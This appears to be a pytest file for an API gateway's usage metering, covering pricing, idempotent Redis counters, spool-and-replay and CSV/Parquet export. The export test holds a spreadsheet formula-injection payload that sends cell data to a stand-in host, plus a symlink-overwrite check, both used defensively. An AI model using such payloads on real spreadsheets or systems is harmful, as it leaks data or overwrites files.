"""Metering against a real Redis: exact cost, idempotent writes, counters == events, spool and replay."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest

from gateway.config import Prices
from gateway.ledger.event import COUNTER_FIELDS, UsageEvent, cost_micro_usd, counter_increments
from gateway.ledger.record import UsageRecord
from tests.fixtures.redis_stack import persistent_redis, stack

PRICES = Prices(
    input_usd_per_mtok=Decimal("0.50"),
    cached_input_usd_per_mtok=Decimal("0.25"),
    output_usd_per_mtok=Decimal("2.00"),
)


def test_cached_token_pricing_example() -> None:
    # 1000 prompt tokens of which 600 came from the upstream's prefix cache, 200 completion tokens:
    # (1000-600)*0.50 + 600*0.25 + 200*2.00 = 200 + 150 + 400 = 750 micro-USD.
    assert cost_micro_usd(PRICES, prompt_tokens=1000, cached_tokens=600, completion_tokens=200) == 750
    # without the cached discount the same request costs 300 + 500... i.e. 1000*0.5 + 400 = 900
    assert cost_micro_usd(PRICES, prompt_tokens=1000, cached_tokens=0, completion_tokens=200) == 900
    # fractional micro-USD round once per event, half up: 3 tokens * 0.5 = 1.5 -> 2
    assert cost_micro_usd(PRICES, prompt_tokens=3, cached_tokens=0, completion_tokens=0) == 2
    assert cost_micro_usd(PRICES, prompt_tokens=1, cached_tokens=0, completion_tokens=0) == 1  # 0.5 -> 1
    rec = UsageRecord()
    rec.set_usage({"prompt_tokens": 1000, "completion_tokens": 200, "prompt_tokens_details": {"cached_tokens": 600},
                   "completion_tokens_details": {"reasoning_tokens": 150}})
    assert (rec.prompt_tokens, rec.cached_tokens, rec.completion_tokens, rec.reasoning_tokens, rec.usage_source) == (
        1000, 600, 200, 150, "upstream")
    assert cost_micro_usd(PRICES, prompt_tokens=rec.prompt_tokens, cached_tokens=rec.cached_tokens,
                          completion_tokens=rec.completion_tokens) == 750
    with pytest.raises(ValueError):
        cost_micro_usd(PRICES, prompt_tokens=-1, cached_tokens=0, completion_tokens=0)


def test_cache_hit_prices_as_saved() -> None:
    ev = UsageEvent(key_id="k", requested_model="short", cached=True, prompt_tokens=1000, cached_tokens=600,
                    completion_tokens=200)
    ev.price(PRICES)
    assert (ev.cost_micro_usd, ev.saved_micro_usd) == (0, 750)


def _event(key: str, tier: str, i: int, **kw: object) -> UsageEvent:
    ev = UsageEvent(key_id=key, requested_model="auto", tier=tier, upstream_model="m", route_reason="predicted",
                    prompt_tokens=100 + i, cached_tokens=i % 7, completion_tokens=50 + 3 * i,
                    reasoning_tokens=20 + i, **kw)  # type: ignore[arg-type]
    ev.price(PRICES)
    return ev


async def test_record_is_idempotent_and_counters_equal_events(redis_url: str, redis_prefix: str,
                                                              tmp_path: Path) -> None:
    # 30 concurrent first calls of the metering script (each EVALs it once before it is cached) can take longer
    # than the production 0.25 s socket timeout on a busy 2-core box; this test is about counting, not timeouts
    async with stack(redis_url, redis_prefix, tmp_path / "spool.jsonl", socket_timeout_s=5.0) as st:
        events = [_event("alice" if i % 3 else "bob", "short" if i % 2 else "long", i) for i in range(30)]
        events[4].cached = True
        events[4].price(PRICES)
        events[5].status, events[5].error_code = 502, "upstream_error"
        results = await asyncio.gather(*(st.meter.record(e) for e in events))
        assert all(r.stored == "redis" and r.counted for r in results)
        # the same events again (a lost reply, a replayed spool): nothing counted twice
        again = await asyncio.gather(*(st.meter.record(e) for e in events[:10]))
        assert not any(r.counted for r in again)

        streamed = [e async for e in st.meter.events()]
        assert sorted(e.event_id for e in streamed) == sorted(e.event_id for e in events)
        for key in ("alice", "bob"):
            mine = [e for e in events if e.key_id == key]
            want = {f: sum(counter_increments(e)[f] for e in mine) for f in COUNTER_FIELDS}
            assert await st.meter.key_counters(key) == want
            assert await st.meter.key_counters(key, day=mine[0].day) == want
            assert await st.meter.key_counters(key, month=mine[0].month) == want
        assert (await st.meter.tier_counters("short"))["requests"] == 15
        assert await st.meter.key_ids() == ["alice", "bob"]
        day_cost = sum(e.cost_micro_usd for e in events if e.key_id == "bob")
        assert results[0].day_cost_micro_usd is not None and results[0].day_cost_micro_usd <= day_cost
        assert (await st.meter.key_counters("bob"))["cost_micro_usd"] == day_cost
        assert (await st.meter.key_counters("alice"))["cache_hits"] == 1
        assert (await st.meter.key_counters("alice"))["errors"] == 1


async def test_events_since_until_filters_on_event_time(redis_url: str, redis_prefix: str, tmp_path: Path) -> None:
    async with stack(redis_url, redis_prefix, tmp_path / "spool.jsonl") as st:
        base = 1_700_000_000.0
        events = [_event("k", "short", i, ts=base + i * 3600) for i in range(5)]
        for e in events:
            await st.meter.record(e)
        got = [e.event_id async for e in st.meter.events(since_ts=base + 3600, until_ts=base + 3 * 3600)]
        assert got == [events[1].event_id, events[2].event_id]
        got_all = [e.event_id async for e in st.meter.events(page=2)]
        assert got_all == [e.event_id for e in events]


async def test_spool_when_redis_down_then_replay_once(tmp_path: Path, port_lease: Callable[[], int]) -> None:
    """Redis not there at all: events spool (fsync'd); when it starts, replay counts each exactly once."""
    port = port_lease()
    url = f"redis://127.0.0.1:{port}/0"
    spool_path = tmp_path / "spool.jsonl"
    async with stack(url, "tgtest:spool:", spool_path, cooldown_s=0.2) as st:
        events = [_event("k", "short", i) for i in range(12)]
        loop = asyncio.get_running_loop()
        t0 = loop.time()
        results = [await st.meter.record(e) for e in events]
        assert all(r.stored == "spool" for r in results)
        assert loop.time() - t0 < 2.0  # refused connections / open breaker: fast
        assert [e.event_id for e in st.spool.read_all()] == [e.event_id for e in events]
        assert await st.meter.replay() == 0  # still down: nothing sent, file kept
        assert len(st.spool.read_all()) == 12

        server_dir = tmp_path / "redis"
        server_dir.mkdir()
        from tests.fixtures.redis_stack import PersistentRedis

        server = PersistentRedis(server_dir, port=port)
        server.start()
        try:
            await asyncio.sleep(0.25)  # breaker cooldown
            assert await st.meter.replay() == 12
            assert st.spool.pending_bytes() == 0
            # a second copy of the same spool (crash before truncate) adds nothing
            await st.spool.append(events[:5])
            assert await st.meter.replay() == 5
            counters = await st.meter.key_counters("k")
            assert counters["requests"] == 12
            assert counters["cost_micro_usd"] == sum(e.cost_micro_usd for e in events)
            assert len([e async for e in st.meter.events()]) == 12
        finally:
            server.stop()


async def test_replayer_task_drains_after_restart(tmp_path: Path) -> None:
    with persistent_redis(tmp_path) as server:
        async with stack(server.url, "tgtest:replayer:", tmp_path / "spool.jsonl", cooldown_s=0.2,
                         replay_interval_s=0.1) as st:
            await st.meter.record(_event("k", "short", 0))
            server.stop()
            spooled = [_event("k", "short", i) for i in range(1, 6)]
            for e in spooled:
                assert (await st.meter.record(e)).stored == "spool"
            stop = asyncio.Event()
            task = asyncio.create_task(st.meter.run_replayer(stop))
            server.start()
            try:
                for _ in range(100):
                    if st.spool.pending_bytes() == 0:
                        break
                    await asyncio.sleep(0.05)
                assert st.spool.pending_bytes() == 0
                assert (await st.meter.key_counters("k"))["requests"] == 6  # data survived, spool added 5
            finally:
                stop.set()
                await task


def test_export_grouping_and_formats(tmp_path: Path) -> None:
    import io

    import pyarrow.parquet as pq

    from gateway.ledger import export as ex

    evs = [
        _event("a", "short", 1, tags={"project": "p1", "team": "x"}),
        _event("a", "long", 2, tags={"project": "p2"}),
        _event("b", "short", 3),
    ]
    by_project = {r["tag:project"]: r for r in ex.group(evs, ["tag:project"])}
    assert set(by_project) == {"p1", "p2", ""}
    assert sum(r["cost_micro_usd"] for r in by_project.values()) == sum(e.cost_micro_usd for e in evs)
    exploded = ex.group(evs, ["tag"])  # one row per k=v: the first event counts twice
    assert sum(r["requests"] for r in exploded) == 4
    rows = ex.group(evs, ["key", "day"])
    assert [(r["key"], r["requests"]) for r in rows] == [("a", 2), ("b", 1)]
    assert rows[0]["cost_usd"] == str(ex.micro_to_usd(evs[0].cost_micro_usd + evs[1].cost_micro_usd))
    with pytest.raises(ex.ExportError):
        ex.parse_group_by("key,colour")
    assert ex.parse_time("2026-11-29") == ex.parse_time("2026-11-29T00:00:00Z") == 1795910400.0
    with pytest.raises(ex.ExportError):
        ex.parse_time("yesterday")
    from dataclasses import replace

    late = replace(_event("c", "short", 9), ts=evs[0].ts - 60)  # a spooled or reconciled event, written last
    raw_rows, cols = ex.build([*evs, late], [])
    assert raw_rows[0]["event_id"] == late.event_id  # raw rows in ts order, not write order
    assert raw_rows[0]["saved_usd"] == str(ex.micro_to_usd(late.saved_micro_usd)) and "saved_usd" in cols
    raw_rows, cols = ex.build(evs, [])
    buf = io.BytesIO()
    ex.write(raw_rows, cols, "parquet", buf)
    table = pq.read_table(io.BytesIO(buf.getvalue())).to_pylist()
    assert [r["event_id"] for r in table] == [e.event_id for e in evs]
    assert table[0]["tags"] == [("project", "p1"), ("team", "x")]
    assert table[0]["cost_micro_usd"] == evs[0].cost_micro_usd
    out = tmp_path / "e.csv"
    ex.write_file(raw_rows, cols, "csv", out, io.BytesIO())
    assert out.read_text().splitlines()[0].split(",")[:3] == ["key_id", "requested_model", "event_id"]
    import csv

    first = next(csv.DictReader(io.StringIO(out.read_text())))
    # booleans as JSON Lines writes them (and loaders read them): true/false, not Python's True/False
    assert (first["stream"], first["cached"], first["audit"]) == (str(evs[0].stream).lower(),
                                                                  str(evs[0].cached).lower(), "false")
    # a text a spreadsheet would run as a formula is quoted (a client's own model string; OWASP's CSV rule)
    formula = replace(evs[0], requested_model='=HYPERLINK("https://x.example/?"&A2)')
    rows_f, cols_f = ex.build([formula], [])
    ex.write_file(rows_f, cols_f, "csv", out, io.BytesIO())
    assert next(csv.DictReader(io.StringIO(out.read_text())))["requested_model"] == "'" + formula.requested_model
    # the temp file is a new one of the export's own: a link left at "<name>.tmp" is not written through
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (tmp_path / "e.csv.tmp").symlink_to(victim)
    ex.write_file(rows_f, cols_f, "csv", out, io.BytesIO())
    assert victim.read_text() == "keep me" and out.read_text().startswith("key_id,")
    assert not [x for x in tmp_path.iterdir() if x.name.startswith(".e.csv.")]  # no temp file left behind


async def test_record_many_one_pipeline_counts_once_and_reloads_a_flushed_script(redis_url: str, redis_prefix: str,
                                                                                 tmp_path: Path) -> None:
    """The metering writer's batch path: same counters as one-by-one, duplicates dropped, script cache loss."""
    async with stack(redis_url, redis_prefix, tmp_path / "spool.jsonl") as st:
        events = [_event("alice" if i % 2 else "bob", "short", i) for i in range(40)]
        results = await st.meter.record_many(events)
        assert [r.stored for r in results] == ["redis"] * 40 and all(r.counted for r in results)
        assert not any(r.counted for r in await st.meter.record_many(events[:10]))  # replayed: not counted again
        await st.handle.client.script_flush()  # a restarted Redis forgets scripts: loaded again, batch resent
        more = [_event("alice", "long", i) for i in range(40, 45)]
        assert all(r.counted for r in await st.meter.record_many(more))
        for key in ("alice", "bob"):
            mine = [e for e in events + more if e.key_id == key]
            want = {f: sum(counter_increments(e)[f] for e in mine) for f in COUNTER_FIELDS}
            assert await st.meter.key_counters(key) == want
        day = [r.day_cost_micro_usd for r in results if r.day_cost_micro_usd is not None]
        assert len(day) == 40 and day[-1] == sum(e.cost_micro_usd for e in events if e.key_id == events[-1].key_id)


async def test_record_many_spools_the_whole_batch_when_redis_is_down(tmp_path: Path,
        port_lease: Callable[[], int]) -> None:
    url = f"redis://127.0.0.1:{port_lease()}/0"  # nothing listens there
    async with stack(url, "tgtest:batchspool:", tmp_path / "spool.jsonl", cooldown_s=0.2) as st:
        events = [_event("k", "short", i) for i in range(7)]
        results = await st.meter.record_many(events)
        assert [r.stored for r in results] == ["spool"] * 7
        assert [e.event_id for e in st.spool.read_all()] == [e.event_id for e in events]
        assert st.meter.spooled == 7


async def test_concurrent_spool_appends_are_group_committed_and_all_kept(tmp_path: Path) -> None:
    from gateway.state.spool import Spool

    spool = Spool(tmp_path / "spool.jsonl")
    events = [_event("k", "short", i) for i in range(60)]
    await asyncio.gather(*(spool.append([e]) for e in events))
    assert sorted(e.event_id for e in spool.read_all()) == sorted(e.event_id for e in events)
    assert spool.path.read_bytes().count(b"\n") == 60  # whole lines, none torn or doubled


async def test_replayer_survives_a_redis_error_that_is_not_an_outage(tmp_path: Path) -> None:
    """A replay that fails with a Redis error other than a refused connection (here ``READONLY``: the server was
    made a replica, as an old master is after a Sentinel or Cluster failover) must not end the replayer task —
    the spool is kept and replayed once the error is gone (a dead replayer stranded 102 of 396 spooled events in a
    Cluster failover test)."""
    with persistent_redis(tmp_path) as server:
        async with stack(server.url, "tgtest:replaywrong:", tmp_path / "spool.jsonl", cooldown_s=0.2,
                         replay_interval_s=0.1) as st:
            server.stop()
            spooled = [_event("k", "short", i) for i in range(4)]
            for e in spooled:
                assert (await st.meter.record(e)).stored == "spool"
            server.start()
            await asyncio.sleep(0.25)  # breaker cooldown
            raw = st.handle.client
            await raw.execute_command("REPLICAOF", "127.0.0.1", "1")  # read-only now: every RECORD script fails
            stop = asyncio.Event()
            task = asyncio.create_task(st.meter.run_replayer(stop))
            try:
                await asyncio.sleep(0.5)  # several passes fail
                assert not task.done(), task.exception() if task.done() else None
                assert st.spool.pending_bytes() > 0  # kept, not lost
                await raw.execute_command("REPLICAOF", "NO", "ONE")
                for _ in range(100):
                    if st.spool.pending_bytes() == 0:
                        break
                    await asyncio.sleep(0.05)
                assert st.spool.pending_bytes() == 0
                assert (await st.meter.key_counters("k"))["requests"] == 4
            finally:
                stop.set()
                await task


async def test_the_spools_dirty_flag_follows_the_file(tmp_path: Path) -> None:
    """``Spool.dirty`` is what admission reads (for free) to know whether usage waits for Redis: set by an append
    (or a file left by an earlier process), cleared by a full drain — also when another process sharing the file
    drained it, else every admission of this one would wait for a replay of nothing."""
    from gateway.state.spool import Spool

    path = tmp_path / "spool.jsonl"
    a = Spool[UsageEvent](path)
    assert not a.dirty
    await a.append([_event("k", "short", 1)])
    assert a.dirty and Spool[UsageEvent](path).dirty  # a new process finds the file
    sent: list[UsageEvent] = []

    async def sink(events: list[UsageEvent]) -> None:
        sent.extend(events)

    b = Spool[UsageEvent](path)
    assert await b.replay(sink, "usage") == 1 and not b.dirty
    assert a.dirty  # a does not know yet ...
    assert await a.replay(sink, "usage") == 0 and not a.dirty  # ... until its next pass finds the file empty
    assert len(sent) == 1
